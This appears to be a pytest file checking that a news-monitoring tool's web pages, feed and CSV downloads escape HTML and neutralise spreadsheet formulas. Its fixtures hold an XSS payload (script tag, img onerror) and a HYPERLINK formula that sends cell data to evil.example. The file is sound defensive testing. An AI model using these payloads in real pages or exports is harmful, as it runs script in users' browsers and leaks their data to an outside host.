"""What coopwatch publishes is safe to open: no script runs, no spreadsheet formula fires."""

from __future__ import annotations

import asyncio
import csv
import io

import pytest

from jobs.csvsafe import _Records, neutralize
from jobs.models import Article, Item
from jobs.schema import connect
from jobs.serve import make_datasette
from jobs.store import save_article, transaction

HOSTILE_TITLE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+2", "'=1+2"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"),
    ("\tx", "'\tx"), ("-3.5", "-3.5"), ("+84", "+84"), ("Hà Nội", "Hà Nội"), ("", ""),
])
def test_neutralize(cell, expected):
    assert neutralize(cell) == expected


def test_records_split_across_chunks_and_quoted_newlines():
    records = _Records()
    text = 'url,title\r\nhttps://a,"line one\r\n=line two"\r\nhttps://b,=1+1\r\n'
    out = "".join(records.feed(text[i:i + 7]) for i in range(0, len(text), 7)) + records.close()
    rows = list(csv.reader(io.StringIO(out)))
    assert rows == [["url", "title"], ["https://a", "line one\r\n=line two"],
                    ["https://b", "'=1+1"]]


@pytest.fixture
def hostile_db(tmp_path):
    path = tmp_path / "coopwatch.db"
    db = connect(path)
    db["sources"].insert({"name": "feed", "url": "https://news.example/feed"})
    url = "https://news.example/a"
    article = Article(url=url, source="feed", title=HOSTILE_TITLE, text="x", published="2025-01-01")
    item = Item(url=url, source="feed", title=HOSTILE_TITLE, published="2025-01-01",
                event_date=None, place=None, countries=("LA", "VN"), organisations=(),
                kinds=("meeting",), topics=(), summary=FORMULA, evidence={}, score=1.0,
                classifier="test")
    with transaction(db):
        save_article(db, article, link=url, now="2025-01-01T00:00:00+00:00", verdict=item)
    db.close()
    return path


def get(ds, path: str):
    return asyncio.run(ds.client.get(path))


def test_html_in_titles_is_escaped_everywhere(hostile_db):
    ds = make_datasette(hostile_db)
    for path in ("/coopwatch/items", "/coopwatch/items/https:~2F~2Fnews.example~2Fa",
                 "/coopwatch/articles", "/coopwatch/latest_items"):
        page = get(ds, path)
        assert page.status_code == 200, path
        assert "<script>alert" not in page.text and "<img src=x" not in page.text, path
    feed = get(ds, "/coopwatch/new_items.atom").text
    assert "<script>" not in feed


def test_csv_downloads_carry_no_formulas(hostile_db):
    ds = make_datasette(hostile_db)
    for path in ("/coopwatch/items.csv", "/coopwatch/items.csv?_stream=on",
                 "/coopwatch/latest_items.csv"):
        response = get(ds, path)
        assert response.status_code == 200, path
        rows = list(csv.DictReader(io.StringIO(response.text)))
        cells = [cell for row in rows for cell in row.values() if cell]
        assert cells and not [c for c in cells if c.startswith(("=", "+", "@"))], path
        assert any(c == "'" + FORMULA for c in cells), path
    data = get(ds, "/coopwatch/items.json?_shape=array").json()
    assert data[0]["summary"] == FORMULA  # JSON and the database keep the text as written


def test_a_streamed_csv_sends_every_row_exactly_once(tmp_path):
    path = tmp_path / "coopwatch.db"
    db = connect(path)
    db["sources"].insert({"name": "feed", "url": "https://news.example/feed"})
    with transaction(db):
        for n in range(30):  # many rows share each date: the default sort has ties
            url = f"https://news.example/{n:03d}"
            day = f"2025-01-0{n % 3 + 1}"
            article = Article(url=url, source="feed", title=f"t{n}", text="x", published=day)
            item = Item(url=url, source="feed", title=f"t{n}", published=day, event_date=None,
                        place=None, countries=("LA", "VN"), organisations=(), kinds=("meeting",),
                        topics=(), summary="s", evidence={}, score=1.0, classifier="test")
            save_article(db, article, link=url, now="2025-01-05T00:00:00+00:00", verdict=item)
    db.close()
    ds = make_datasette(path, settings={"max_returned_rows": 7})
    rows = list(csv.DictReader(io.StringIO(get(ds, "/coopwatch/items.csv?_stream=on").text)))
    expected = [f"https://news.example/{n:03d}" for n in range(30)]
    assert sorted(row["url"] for row in rows) == expected
